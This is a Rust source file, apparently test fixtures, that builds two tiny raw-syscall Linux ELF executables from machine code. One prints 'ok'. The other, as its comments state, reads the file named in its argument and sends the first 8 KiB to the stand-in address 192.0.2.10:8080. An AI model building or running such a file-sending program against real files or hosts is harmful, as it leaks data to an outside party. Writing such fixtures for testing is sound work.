//! Two tiny programs for 64-bit x86 Linux, without a C library: every call they make is a raw one.

/// Prints `ok`.
pub(crate) fn says_ok() -> Vec<u8> {
    // write(1, "ok\n", 3); exit(0)
    program(
        b"\xb8\x01\x00\x00\x00\xbf\x01\x00\x00\x00\x48\x8d\x35\x10\x00\x00\x00\xba\x03\x00\x00\x00\x0f\x05\
          \xb8\x3c\x00\x00\x00\x31\xff\x0f\x05ok\n",
    )
}

/// Sends the first 8 KiB of the file named by its argument to 192.0.2.10:8080.
pub(crate) fn sends_file() -> Vec<u8> {
    // fd = open(argv[1], 0, 0), or exit; n = read(fd, stack, 8192); s = socket(AF_INET, SOCK_STREAM, 0);
    // connect(s, 192.0.2.10:8080); write(s, stack, n); exit(0)
    program(
        b"\x48\x8b\x7c\x24\x10\x31\xf6\x31\xd2\xb8\x02\x00\x00\x00\x0f\x05\x85\xc0\x78\x53\x89\xc7\x48\x81\
          \xec\x00\x20\x00\x00\x48\x89\xe6\xba\x00\x20\x00\x00\x31\xc0\x0f\x05\x49\x89\xc4\xbf\x02\x00\x00\
          \x00\xbe\x01\x00\x00\x00\x31\xd2\xb8\x29\x00\x00\x00\x0f\x05\x49\x89\xc5\x89\xc7\x48\x8d\x35\x25\
          \x00\x00\x00\xba\x10\x00\x00\x00\xb8\x2a\x00\x00\x00\x0f\x05\x44\x89\xef\x48\x89\xe6\x4c\x89\xe2\
          \xb8\x01\x00\x00\x00\x0f\x05\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05\x02\x00\x1f\x90\xc0\x00\x02\x0a\
          \x00\x00\x00\x00\x00\x00\x00\x00",
    )
}

/// A static executable whose one segment is this code.
fn program(code: &[u8]) -> Vec<u8> {
    const BASE: u64 = 0x40_0000;
    const HEADERS: u64 = 64 + 56;
    let size = HEADERS + code.len() as u64;
    let mut elf = Vec::new();
    elf.extend_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    // Executable, x86-64, version 1.
    for half in [2u16, 62] {
        elf.extend_from_slice(&half.to_le_bytes());
    }
    elf.extend_from_slice(&1u32.to_le_bytes());
    // Entry, program headers, no section headers.
    for word in [BASE + HEADERS, 64, 0] {
        elf.extend_from_slice(&word.to_le_bytes());
    }
    elf.extend_from_slice(&0u32.to_le_bytes());
    // Sizes and counts of the headers.
    for half in [64u16, 56, 1, 64, 0, 0] {
        elf.extend_from_slice(&half.to_le_bytes());
    }
    // One segment to load, readable and executable.
    for word in [1u32, 5] {
        elf.extend_from_slice(&word.to_le_bytes());
    }
    for word in [0, BASE, BASE, size, size, 0x1000] {
        elf.extend_from_slice(&word.to_le_bytes());
    }
    elf.extend_from_slice(code);
    elf
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read as _;
    use std::os::unix::fs::PermissionsExt as _;

    #[test]
    #[cfg(all(target_os = "linux", target_arch = "x86_64"))]
    fn the_program_runs() {
        let path = std::env::temp_dir().join(format!("says-ok-{}", std::process::id()));
        std::fs::write(&path, says_ok()).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        let output = std::process::Command::new(&path).output();
        std::fs::remove_file(&path).unwrap();
        let output = output.unwrap();
        assert!(output.status.success());
        assert_eq!(output.stdout, b"ok\n");
    }

    #[test]
    fn both_programs_are_executables() {
        for elf in [says_ok(), sends_file()] {
            let mut magic = [0; 4];
            elf.as_slice().read_exact(&mut magic).unwrap();
            assert_eq!(&magic, b"\x7fELF");
        }
    }
}
